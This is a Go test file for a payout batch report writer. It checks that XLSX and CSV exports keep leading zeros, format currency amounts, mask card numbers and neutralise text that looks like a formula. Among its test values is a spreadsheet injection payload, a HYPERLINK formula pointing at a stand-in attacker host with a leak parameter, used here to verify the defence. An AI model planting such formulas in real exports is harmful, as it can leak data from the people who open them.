package report_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/payouts/payouts/batch/report"
	"github.com/payouts/payouts/ledger"
)

// The fixture's clock: rows are created at fixtureCreated, the paid row
// finishes at fixtureFinished, the report is generated at fixtureNow.
var (
	fixtureCreated  = time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	fixtureFinished = time.Date(2026, 11, 30, 9, 5, 30, 0, time.UTC)
	fixtureNow      = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
)

const (
	injection = `=HYPERLINK("http://evil.example/?leak=1","Click me")`
	testPAN   = "4242424242424242"
)

// fixture is a ledger with one batch of four rows built through the
// ledger's public API: references made of digits with leading zeros,
// three currencies with 2, 0 and 3 minor digits, a recipient name that is a
// formula, descriptions and emails, a card number typed into a description,
// and rows succeeded, failed and never sent.
func fixture(t *testing.T) (*ledger.DB, string) {
	t.Helper()
	ctx := context.Background()
	db, err := ledger.Open(ctx, filepath.Join(t.TempDir(), "payouts.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	now := fixtureCreated
	db.Now = func() time.Time { return now }
	const id = "0123456789abcdef"
	if _, _, err := db.CreateBatch(ctx, ledger.Batch{ID: id, ManifestName: "payroll.xlsx", ManifestSHA256: "9f2c", RowCount: 4,
		Totals: map[string]int64{"RUB": 150050 + 10000, "JPY": 1500, "KWD": 12345}}); err != nil {
		t.Fatal(err)
	}
	fp := strings.Repeat("ab", 32)
	rows := []ledger.Row{
		{Line: 2, Reference: "00123", Amount: 150050, Currency: "RUB", RecipientName: injection, Email: "ivan@example.com",
			Description: "Зарплата за ноябрь", CardBIN: "220070", CardLast4: "0009", CardFingerprint: fp},
		{Line: 3, Reference: "EMP-2", Amount: 1500, Currency: "JPY", RecipientName: "Иванов Иван",
			Description: "00777", CardBIN: "424242", CardLast4: "4242", CardFingerprint: fp},
		{Line: 4, Reference: "0042", Amount: 12345, Currency: "KWD", RecipientName: "+7 Пётр",
			Description: "bonus to card " + testPAN, CardBIN: "555555", CardLast4: "4444", CardFingerprint: fp},
		{Line: 5, Reference: "EMP-4", Amount: 10000, Currency: "RUB", RecipientName: "Ольга", CardBIN: "220070", CardLast4: "0009", CardFingerprint: fp},
	}
	if _, err := db.InsertRows(ctx, id, func(yield func(ledger.Row, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}); err != nil {
		t.Fatal(err)
	}
	// 00123 is paid (session and payout ids made of digits, one with a
	// quote), 0042 fails at start; EMP-2 and EMP-4 are never sent.
	move := func(ref string, steps ...ledger.Change) {
		t.Helper()
		r, err := db.RowByReference(ctx, id, ref)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range steps {
			c.RowID, c.From, c.Reason = r.ID, r.State, "test"
			if r, err = db.Apply(ctx, c); err != nil {
				t.Fatalf("%s %s → %s: %v", ref, c.From, c.To, err)
			}
		}
	}
	move("00123",
		ledger.Change{To: ledger.StateCreating, NewAttempt: map[string]string{"session/create": "k1"}},
		ledger.Change{To: ledger.StateCreated, SessionID: "000777"},
		ledger.Change{To: ledger.StateStarting},
		ledger.Change{To: ledger.StateAwaitingConfirm, PayoutID: `po"1`},
		ledger.Change{To: ledger.StateConfirming},
		ledger.Change{To: ledger.StateConfirmed})
	now = fixtureFinished
	move("00123", ledger.Change{To: ledger.StateSucceeded})
	move("0042",
		ledger.Change{To: ledger.StateCreating, NewAttempt: map[string]string{"session/create": "k2"}},
		ledger.Change{To: ledger.StateCreated, SessionID: "ps_2"},
		ledger.Change{To: ledger.StateStarting},
		ledger.Change{To: ledger.StateFailed, Failure: &ledger.Failure{Code: "card_number_does_not_exist", Description: "=1+1 the card does not exist"}})
	return db, id
}

func writeFixture(t *testing.T, db *ledger.DB, id string, f report.Format) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := report.Write(context.Background(), db, id, &buf, report.Options{Format: f, Now: func() time.Time { return fixtureNow }}); err != nil {
		t.Fatalf("report.Write %s: %v", f, err)
	}
	return buf.Bytes()
}

// xlsxCell is what a test expects of one cell.
type xlsxCell struct {
	ref    string
	kind   string // "text", "number" or "date"
	value  string // the raw value: the text, the number as stored
	format string // the number format shown (numbers and dates)
	shown  string // the value as a spreadsheet shows it ("" for text: the value)
}

// checkCell reads one cell back and compares it with want.
func checkCell(t *testing.T, f *excelize.File, sheet string, want xlsxCell) {
	t.Helper()
	typ, err := f.GetCellType(sheet, want.ref)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := f.GetCellValue(sheet, want.ref, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	shown, err := f.GetCellValue(sheet, want.ref)
	if err != nil {
		t.Fatal(err)
	}
	formula, err := f.GetCellFormula(sheet, want.ref)
	if err != nil {
		t.Fatal(err)
	}
	if formula != "" {
		t.Errorf("%s!%s: got formula %q, want none", sheet, want.ref, formula)
	}
	styleID, err := f.GetCellStyle(sheet, want.ref)
	if err != nil {
		t.Fatal(err)
	}
	style, err := f.GetStyle(styleID)
	if err != nil {
		t.Fatal(err)
	}
	format := numFmtCode(style)
	switch want.kind {
	case "text":
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s!%s: got cell type %v, want a string", sheet, want.ref, typ)
		}
		if format != "@" {
			t.Errorf("%s!%s: got number format %q, want text (@)", sheet, want.ref, format)
		}
		want.shown = want.value
	case "number", "date":
		if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Errorf("%s!%s: got cell type %v, want a number", sheet, want.ref, typ)
		}
		if format != want.format {
			t.Errorf("%s!%s: got number format %q, want %q", sheet, want.ref, format, want.format)
		}
	}
	if raw != want.value {
		t.Errorf("%s!%s: got value %q, want %q", sheet, want.ref, raw, want.value)
	}
	if want.shown != "" && shown != want.shown {
		t.Errorf("%s!%s: shown as %q, want %q", sheet, want.ref, shown, want.shown)
	}
}

// numFmtCode is the format code of a style: its custom code, or the code of
// the built-in format.
func numFmtCode(s *excelize.Style) string {
	if s.CustomNumFmt != nil {
		return *s.CustomNumFmt
	}
	return map[int]string{0: "General", 1: "0", 3: "#,##0", 4: "#,##0.00", 49: "@"}[s.NumFmt]
}

// excelSerial is t as a spreadsheet date serial, as excelize writes it.
func excelSerial(t *testing.T, at time.Time) string {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	if err := f.SetCellValue("Sheet1", "A1", at); err != nil {
		t.Fatal(err)
	}
	v, err := f.GetCellValue("Sheet1", "A1", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	back, err := excelize.ExcelDateToTime(mustFloat(t, v), false)
	if err != nil || !back.Equal(at) {
		t.Fatalf("serial %s reads back as %v (%v), want %v", v, back, err, at)
	}
	return v
}

func mustFloat(t *testing.T, s string) float64 {
	t.Helper()
	var f float64
	if _, err := fmtSscan(s, &f); err != nil {
		t.Fatalf("%q is not a number: %v", s, err)
	}
	return f
}

func TestWriteXLSX(t *testing.T) {
	db, id := fixture(t)
	out := writeFixture(t, db, id, report.XLSX)
	f, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatalf("the report is not a workbook excelize can open: %v", err)
	}
	defer f.Close()

	if got, want := f.GetSheetList(), []string{"Rows", "Summary", "Control totals", "Findings"}; !slices.Equal(got, want) {
		t.Fatalf("got sheets %q, want %q", got, want)
	}
	if f.GetActiveSheetIndex() != 0 {
		t.Errorf("got active sheet %d, want 0 (Rows)", f.GetActiveSheetIndex())
	}

	// The header: report.Columns, times marked UTC, bold, frozen.
	rows, err := f.GetRows("Rows")
	if err != nil {
		t.Fatal(err)
	}
	wantHeader := slices.Clone(report.Columns)
	wantHeader[slices.Index(wantHeader, "created_at")] = "created_at (UTC)"
	wantHeader[slices.Index(wantHeader, "finished_at")] = "finished_at (UTC)"
	if !slices.Equal(rows[0], wantHeader) {
		t.Errorf("got header %q, want %q", rows[0], wantHeader)
	}
	if len(rows) != 5 {
		t.Errorf("got %d lines on Rows, want the header and 4 rows", len(rows))
	}
	for _, sheet := range f.GetSheetList() {
		panes, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: got panes %+v, want the header row frozen", sheet, panes)
		}
		styleID, err := f.GetCellStyle(sheet, "A1")
		if err != nil {
			t.Fatal(err)
		}
		style, err := f.GetStyle(styleID)
		if err != nil {
			t.Fatal(err)
		}
		if style.Font == nil || !style.Font.Bold {
			t.Errorf("%s!A1: header not bold (style %+v)", sheet, style)
		}
	}
	if w, err := f.GetColWidth("Rows", "L"); err != nil || w < 30 {
		t.Errorf("Rows column L (failure_description): got width %v (%v), want a wide column", w, err)
	}

	created, finished := excelSerial(t, fixtureCreated), excelSerial(t, fixtureFinished)
	const date = "yyyy-mm-dd hh:mm:ss"
	for _, c := range []xlsxCell{
		// 00123: paid, RUB with 2 digits.
		{ref: "A2", kind: "number", value: "2", format: "0"},
		{ref: "B2", kind: "text", value: "00123"},
		{ref: "C2", kind: "text", value: "succeeded"},
		{ref: "D2", kind: "number", value: "1500.5", format: "#,##0.00", shown: "1,500.50"},
		{ref: "E2", kind: "text", value: "RUB"},
		{ref: "F2", kind: "text", value: "220070******0009"},
		{ref: "G2", kind: "text", value: injection},
		{ref: "H2", kind: "text", value: "000777"},
		{ref: "I2", kind: "text", value: `po"1`},
		{ref: "J2", kind: "number", value: "1", format: "0"},
		{ref: "M2", kind: "date", value: created, format: date, shown: "2026-11-30 09:00:00"},
		{ref: "N2", kind: "date", value: finished, format: date, shown: "2026-11-30 09:05:30"},
		{ref: "O2", kind: "text", value: "Зарплата за ноябрь"},
		{ref: "P2", kind: "text", value: "ivan@example.com"},
		// EMP-2: JPY, no minor digits; a description made of digits.
		{ref: "D3", kind: "number", value: "1500", format: "#,##0", shown: "1,500"},
		{ref: "O3", kind: "text", value: "00777"},
		// 0042: KWD, three digits; failed with a text starting like a formula.
		{ref: "B4", kind: "text", value: "0042"},
		{ref: "D4", kind: "number", value: "12.345", format: "#,##0.000", shown: "12.345"},
		{ref: "G4", kind: "text", value: "+7 Пётр"},
		{ref: "K4", kind: "text", value: "card_number_does_not_exist"},
		{ref: "L4", kind: "text", value: "=1+1 the card does not exist"},
		// Summary: per currency and status; the batch below it.
		{ref: "A2", kind: "text", value: "JPY"},
	} {
		sheet := "Rows"
		if c.ref == "A2" && c.value == "JPY" {
			sheet = "Summary"
		}
		checkCell(t, f, sheet, c)
	}
	// Empty cells stay empty: no finished_at for a row not finished.
	if v, _ := f.GetCellValue("Rows", "N3"); v != "" {
		t.Errorf("Rows!N3: got %q, want empty (EMP-2 is not finished)", v)
	}
	// No card number anywhere, only the masks.
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			for _, cell := range r {
				if strings.Contains(cell, testPAN) {
					t.Errorf("%s: cell %q holds the card number", sheet, cell)
				}
			}
		}
	}
	if desc, _ := f.GetCellValue("Rows", "O4"); !strings.HasPrefix(desc, "bonus to card ") || strings.Contains(desc, "4242424242") {
		t.Errorf("Rows!O4: got %q, want the description with the card number masked", desc)
	}

	summary, err := f.GetRows("Summary")
	if err != nil {
		t.Fatal(err)
	}
	wantSummary := [][]string{
		{"currency", "status", "rows", "amount"},
		{"JPY", "planned", "1", "1,500"},
		{"KWD", "failed", "1", "12.345"},
		{"RUB", "planned", "1", "100.00"},
		{"RUB", "succeeded", "1", "1,500.50"},
		nil,
		{"batch", id},
		{"manifest", "payroll.xlsx"},
		{"manifest_sha256", "9f2c"},
		{"generated_at (UTC)", "2026-11-30 12:00:00"},
		{"rows", "4"},
	}
	if !equalRows(summary, wantSummary) {
		t.Errorf("Summary:\n got %q\nwant %q", summary, wantSummary)
	}
	checkCell(t, f, "Summary", xlsxCell{ref: "B11", kind: "number", value: "4", format: "0"})
	checkCell(t, f, "Summary", xlsxCell{ref: "B7", kind: "text", value: id})

	control, err := f.GetRows("Control totals")
	if err != nil {
		t.Fatal(err)
	}
	wantControl := [][]string{
		{"currency", "manifest", "submitted", "succeeded"},
		{"JPY", "1,500", "0", "0"},
		{"KWD", "12.345", "12.345", "0.000"},
		{"RUB", "1,600.50", "1,500.50", "1,500.50"},
	}
	if !equalRows(control, wantControl) {
		t.Errorf("Control totals:\n got %q\nwant %q", control, wantControl)
	}
	checkCell(t, f, "Control totals", xlsxCell{ref: "B4", kind: "number", value: "1600.5", format: "#,##0.00"})

	findings, err := f.GetRows("Findings")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := findings[0], []string{"kind", "row", "reference", "session_id", "detail", "action"}; !slices.Equal(got, want) {
		t.Errorf("Findings header: got %q, want %q", got, want)
	}
	var kinds []string
	for _, r := range findings[1:] {
		kinds = append(kinds, r[0]+" "+r[2])
	}
	if want := []string{"not_sent EMP-2", "not_sent EMP-4"}; !slices.Equal(kinds, want) {
		t.Errorf("Findings: got %q, want %q", kinds, want)
	}
	checkCell(t, f, "Findings", xlsxCell{ref: "B2", kind: "number", value: "3", format: "0"})

	// Nothing in the workbook is a formula: the cells are inline strings
	// and numbers, whatever text they hold.
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	formula := regexp.MustCompile(`<f[ >/]`)
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if formula.Match(b) {
			t.Errorf("%s holds a formula element", zf.Name)
		}
		if bytes.Contains(b, []byte(testPAN)) {
			t.Errorf("%s holds the card number", zf.Name)
		}
	}
}

// equalRows compares sheet rows, ignoring trailing empty cells.
func equalRows(got, want [][]string) bool {
	if len(got) != len(want) {
		return false
	}
	for i := range got {
		g := got[i]
		for len(g) > 0 && g[len(g)-1] == "" {
			g = g[:len(g)-1]
		}
		if !slices.Equal(g, want[i]) {
			return false
		}
	}
	return true
}

// excelFormulaText matches a cell holding one string constant as a
// formula, ="…" with quotes doubled; group 1 is the text Excel shows.
var excelFormulaText = regexp.MustCompile(`^="((?:[^"]|"")*)"$`)

// shownByExcel is what a spreadsheet shows for a cell of the Excel CSV:
// the constant of a ="…" cell, anything else as written. It fails the test
// on a cell a spreadsheet would run as any other formula.
func shownByExcel(t *testing.T, cell string) string {
	t.Helper()
	if m := excelFormulaText.FindStringSubmatch(cell); m != nil {
		return strings.ReplaceAll(m[1], `""`, `"`)
	}
	if dangerous(cell) {
		t.Errorf("cell %q would run as a formula", cell)
	}
	return cell
}

// TestCSVLeadingZeros reads both CSV flavours back: the plain CSV keeps the
// text as it is; the Excel CSV writes identities and all-digit text as
// ="…", so Excel shows 00123, not 123.
func TestCSVLeadingZeros(t *testing.T) {
	db, id := fixture(t)
	read := func(out []byte, comma rune) [][]string {
		t.Helper()
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\ufeff"))))
		r.Comma, r.FieldsPerRecord = comma, -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return recs
	}
	col := func(name string) int { return slices.Index(report.Columns, name) }

	plain := read(writeFixture(t, db, id, report.CSV), ',')
	if !slices.Equal(plain[0], report.Columns) {
		t.Fatalf("got header %q, want %q", plain[0], report.Columns)
	}
	for _, tt := range []struct {
		line   int
		column string
		want   string
	}{
		{1, "reference", "00123"},
		{1, "session_id", "000777"},
		{1, "payout_id", `po"1`},
		{1, "recipient_name", "'" + injection},
		{1, "description", "Зарплата за ноябрь"},
		{1, "email", "ivan@example.com"},
		{2, "description", "00777"},
		{2, "amount", "1500"},
		{3, "reference", "0042"},
		{3, "amount", "12.345"},
		{3, "failure_description", "'=1+1 the card does not exist"},
	} {
		if got := plain[tt.line][col(tt.column)]; got != tt.want {
			t.Errorf("csv line %d %s: got %q, want %q", tt.line, tt.column, got, tt.want)
		}
	}

	excel := read(writeFixture(t, db, id, report.ExcelCSV), ';')
	for _, tt := range []struct {
		line         int
		column       string
		cell, excels string
	}{
		{1, "reference", `="00123"`, "00123"},
		{1, "session_id", `="000777"`, "000777"},
		{1, "payout_id", `="po""1"`, `po"1`},
		{1, "recipient_name", "'" + injection, "'" + injection},
		{1, "amount", "1500,50", "1500,50"},
		{1, "row", "2", "2"},
		{2, "reference", `="EMP-2"`, "EMP-2"},
		{2, "description", `="00777"`, "00777"},
		{3, "reference", `="0042"`, "0042"},
		{3, "amount", "12,345", "12,345"},
		{3, "failure_description", "'=1+1 the card does not exist", "'=1+1 the card does not exist"},
	} {
		got := excel[tt.line][col(tt.column)]
		if got != tt.cell {
			t.Errorf("excel-csv line %d %s: got cell %q, want %q", tt.line, tt.column, got, tt.cell)
		}
		if shown := shownByExcel(t, got); shown != tt.excels {
			t.Errorf("excel-csv line %d %s: Excel shows %q, want %q", tt.line, tt.column, shown, tt.excels)
		}
	}
	// Every cell is inert: text, a number, or one string constant.
	for _, rec := range excel {
		for _, cell := range rec {
			shownByExcel(t, cell)
		}
	}
	// The sections' identities too: the finding's reference, the batch id.
	var sawBatch bool
	for _, rec := range excel {
		if len(rec) > 1 && rec[0] == "batch" && rec[1] != "id" {
			sawBatch = true
			if rec[1] != `="`+id+`"` {
				t.Errorf("excel-csv batch id: got %q, want %q", rec[1], `="`+id+`"`)
			}
		}
	}
	if !sawBatch {
		t.Error("excel-csv: no batch section")
	}
}

var fmtSscan = fmt.Sscan
